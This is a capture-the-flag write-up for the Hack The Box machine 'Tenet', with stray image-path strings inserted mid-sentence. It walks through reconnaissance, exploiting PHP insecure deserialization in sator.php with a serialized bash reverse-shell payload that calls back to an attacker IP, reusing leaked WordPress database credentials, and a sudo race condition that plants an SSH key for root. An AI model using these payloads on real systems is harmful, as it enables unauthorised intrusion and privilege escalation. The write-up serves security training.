Tenet was a medium box running WordPress, for the few users it might be a hard box because the user shell wasexploiting a PHP deserialization. The privilege escalation was not complicated as the user shell. Tenet means “a principle or belief, especially one of the main principles of a religion or philosophy.” The box had a historical connection that has been mentioned at the end of this writeup.

The initial phase of the Nmap scan gave two ports.

Nmap scan report for
Host is up (0.23s latency).
Not shown: 998 closed ports
22/tcp open  ssh     OpenSSH 7.6p1 Ubuntu 4ubuntu0.3 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   2048 cc:ca:43:d4:4c:e7:4e:bf:26:f4:27:ea:b8:75:a8:f8 (RSA)
|   256 85:f3:ac:ba:1a:6a:03:59:e2:7e:86:47:e7:3e:3c:00 (ECDSA)
|_  256 e7:e9:9a:dd:c3:4a:2f:7a:e1:e0:5d:a2:b0:ca:44:a8 (ED25519)
80/tcp open  http    Apache httpd 2.4.29 ((Ubuntu))
|_http-server-header: Apache/2.4.29 (Ubuntu)
|_http-title: Apache2 Ubuntu Default Page: It works

The first thing to do while doing a htb machine is to add the machine to the hosts file. But this was never a requirement for scriptkiddie that was retired last week. In thehackthebox platform adding IP to the hosts file is a tenet, a belief that it will give you more information. Accessing http://tenet.htb responded with a WordPress home page with three posts, but accessing responded with a default apache page after installation.

hackthebox tenet | htb tenet

The general approach is to run a wpscan, but the result was not interesting to proceed. There was a directory listing at http://tenet.htb/wp-content/uploads/, if you have experience in hosting WordPress you might have noticed directory listing is common in a WordPress installation and the server has to be configured with an Apache rule or Nginx rule to avoid the listing. There were no plugins installed but the WordPress installation was outdated. Even though it was an older version, WordPress 5.6 never had a potential vulnerability to grab the user shell.

         __          ___   _____
         \ \        / /  __ \ / ____|
          \ \  /\  / /| |__) | (___   ___  __ _ _ __ ®
           \ \/  \/ / |  ___/ \___ \ / __|/ _` | '_ \
            \  /\  /  | |     ____) | (__| (_| | | | |
             \/  \/   |_|    |_____/ \___|\__,_|_| |_|

         WordPress Security Scanner by the WPScan Team
                         Version 3.8.15
       Sponsored by Automattic - https://automattic.com/
       @_WPScan_, @ethicalhack3r, @erwan_lr, @firefart
[+] URL: http://tenet.htb/ []
[+] Started: Sat Jun 12 10:26:59 2021Interesting Finding(s):

[+] Headers
 | Interesting Entry: Server: Apache/2.4.29 (Ubuntu)
 | Found By: Headers (Passive Detection)
 | Confidence: 100%

[+] XML-RPC seems to be enabled: http://tenet.htb/xmlrpc.php
 | Found By: Direct Access (Aggressive Detection)
 | Confidence: 100%

[+] WordPress readme found: http://tenet.htb/readme.html
 | Found By: Direct Access (Aggressive Detection)
 | Confidence: 100%

[+] Upload directory has listing enabled: http://tenet.htb/wp-content/uploads/
 | Found By: Direct Access(Aggressive Detection)
 | Confidence: 100%

[+] The external WP-Cron seems to be enabled: http://tenet.htb/wp-cron.php
 | Found By: Direct Access (Aggressive Detection)

[+] WordPress version 5.6 identified (Insecure, released on 2020-12-08).
 | Found By: Rss Generator (Passive Detection)

[+] WordPress theme in use: twentytwentyone
 | Location: http://tenet.htb/wp-content/themes/twentytwentyone/
 | Last Updated: 2021-04-27T00:00:00.000Z
 | Readme: http://tenet.htb/wp-content/themes/twentytwentyone/readme.txt
 | [!] The version is out of date, the latest version is 1.3

WordPress login page was available at http://tenet.htb/wp-login.php. The default logins ‘admin:admin’ and ‘root:root’ were invalid. On the home page there were three posts, going through the posts the second one looked promising. The post itself was not the lead, but the comment by user Neil uncovered a new file sator.php.

did you remove the sator php file and the backup??
the migration program is incomplete!
why would you do this?!From the comment it was clear migration was not completed and there was an uncertainty regarding the file sator file. With a piece of new information in hand, I started searching for the file sator.php in every location that had a chance. But after poking around, and a new word a directory bruting was done at the endpoint http://tenet.htb/sator, and that was a dead-end too. Every enumeration technique that was known to date was done. After a while, I thought of looking the IP for the sator.php. And it went well, there was a sator.php located at So the sator.php file was not located inside wordpress.

[+] Grabbing users from text file
[] Database updated

From the response, it was clear that the file was generating an output, and there was no code for this page. Going back to the comments in the WordPress post Neil had mentioned the sator php file and backup, so the file was sator.php.bak and accessing it was downloaded.

class DatabaseExport
    public $user_file = 'users.txt';
    public $data = '';
    public function update_db()
        echo '[+] Grabbing users from text file <br>';
        $this-> data = 'Success';
    public function __destruct()file_put_contents(__DIR__ . '/' . $this ->user_file, $this->data);
        echo '[] Database updated <br>';
    //  echo 'Gotta get this working properly...';
$input = $_GET['arepo'] ?? '';
$databaseupdate =unserialize($input);
$app = new DatabaseExport;
$app -> update_db();

Looking at the code, from the unserialize function I was sure it was deserialization exploit. The script was accepting a GET input variable arepo and unserializing it. If you are not familiar with insecure PHP deserialization medium post by Vickie Li is a good writeup.

Serialization is when an object in a programming language (say, a Java or PHP object) is converted into a format that can be stored or transferred. Whereas deserialization refers to the opposite: it’s when the serialized object is read from a file or the network and converted back into an object.
Insecure deserialization vulnerabilities happen when applications deserialize objects without proper sanitization. An attacker can then manipulate serialized objects to change the program’s flow.

The PHP script had a class called DatabaseExport with a __destruct function implemented. It is a magic PHP method, PHP magic methods are function names in PHP that have “magical” properties. Learn more about them here. The function was using file_put_contents to write the variable data to the file defined in the variable user_file. The users.txt file returned a successful response. To exploit the payload has to be serialized, and for that a PHP script was used.

class DatabaseExport {
  public $user_file = 'shell.php';
  public $data = '<?php exec("/bin/bash -c \'bash -i > /dev/tcp/<ip>/4444 0>&1\'"); ?>';
print urlencode(serialize(new DatabaseExport));

The final payload was http://sator.tenet.htb/sator.php?arepo=O%3A14%3A%22DatabaseExport%22%3A2%3A%7Bs%3A9%3A%22user_file%22%3Bs%3A7%3A%22rce.php%22%3Bs%3A4%3A%22data%22%3Bs%3A72%3A%22%3C%3Fphp+exec%28%22%2Fbin%2Fbash+-c+%27bash+-i+%3E+%2Fdev%2Ftcp%2F<ip>%2F4444+0%3E%261%27%22%29%3B+%3F%3E%22%3B%7D . A Netcat listener was fired nc -lvnp 4444, and after the payload was delivered the shell.php file that was createdwith the serialized payload was accessed and it gave the first shell. The shell had limited privileges as the user was www-data, grabbing the user privilege was simple. WordPress comes with a configuration file named wp-config.php, being a WordPress developer in the past I know where to look for the file. It was located at/var/www/html/wordpress/wp-config.php.

// ** MySQL settings - You can get this info from your web host ** //
/** The name of the database for WordPress */
define( 'DB_NAME', 'wordpress' );
/** MySQL database username */
define( 'DB_USER', 'neil' );
/** MySQL database password */
define( 'DB_PASSWORD', 'Opera2112' );
/** MySQL hostname */

Since the SSH port was open and running for ease of movement Netcat shell was dropped and SSH was used. Logged in as user Neil and the machine was half done since Neil had the privilege to read user.txt.Whenever a password is known for a user, check the sudo privileges.

neil@tenet:~$ sudo -l
Matching Defaults entries for neil on tenet:
    env_reset, mail_badpass,

User neil may run the following commands on tenet:
    (ALL : ALL) NOPASSWD: /usr/local/bin/enableSSH.sh

Neil had the privilege to execute /usr/local/bin/enableSSH.sh as sudo user.The script was dealing with the SSH key for the root user.

checkAdded() {
    sshName=$(/bin/echo $key | /usr/bin/cut -d " " -f 3)
    if [[ ! -z $(/bin/grep $sshName /root/.ssh/authorized_keys) ]]; then
        /bin/echo "Successfully added $sshName to authorized_keys file!"
        /bin/echo "Error in adding $sshName to authorized_keys file!"
checkFile() {
    if [[ ! -s $1 ]] || [[ ! -f $1 ]]; then
        /bin/echo "Error in creating key file!"
        if [[ -f $1 ]]; then /bin/rm $1; fi
        exit 1
addKey() {
    tmpName=$(mktemp -u /tmp/ssh-XXXXXXXX)(umask 110; touch $tmpName)
    /bin/echo $key >>$tmpName
    checkFile $tmpName
    /bin/cat $tmpName >>/root/.ssh/authorized_keys
    /bin/rm $tmpName

The addKey() function was writing an id_rsa.pub key defined in the variable key to a randomly generated file of format /tmp/ssh-XXXXXXXX.The content was then copied to /root/.ssh/authorized_keys.The randomly generated file maintained a naming pattern of ssh-*. In short, it was a race condition exploit when the $tmpname file is created & checked using checkFile.To exploit the attacking machine’s SSH key was copied using a while loop oneliner.

neil@tenet:~$ while true;do echo "ssh -rsa <snip>" | tee /tmp/ssh-*;done

While executing the above oneliner, another SSH login was done to execute the /usr/local/bin/enableSSH.sh script in the loop. Instead ofrunning the sudo privilege script multiple times, enableSSH.sh was also executed in a while loop. I tried it without a while loop but that it was unsuccessful

neil@tenet:~$ cat script.sh
while true
sudo /usr/local/bin/enableSSH.sh

With two SSH sessions and two while loops, the keys were added. After a few iterations, I was able to log in to the machine as the root user. Tenet was rooted !!

Coming back to the machine Tenet and Sator, how both are connected stemmed to history. It comes from Sator Square, it is a two-dimensional word square containing a five-word Latin palindrome. The five words are Sator, Arepo, Opera, Tenet & Rotas. Tenet was the machine, Sator was thefilename, Arepo was in the PHP script and Opera was in the user’s password. I couldn’t find Rotas but rotas is the palindrome of sator,that was a classic combo !!